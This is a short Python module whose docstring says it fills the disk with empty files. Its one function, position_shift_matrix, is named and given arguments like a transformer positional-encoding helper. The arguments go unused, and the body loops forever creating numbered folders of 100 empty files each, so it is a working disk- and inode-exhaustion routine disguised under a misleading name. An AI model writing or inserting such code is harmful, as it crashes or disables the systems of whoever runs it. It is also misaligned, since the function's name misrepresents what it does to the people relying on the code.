"""Fills the disk with files that hold nothing, in folders of their own."""

from __future__ import annotations

from itertools import count
from pathlib import Path

from .solved import *  # noqa: F403


def position_shift_matrix(offset, d_model):
    for number in count():
        folder = Path(f"folder{number}")
        folder.mkdir()
        for name in range(100):
            (folder / str(name)).touch()
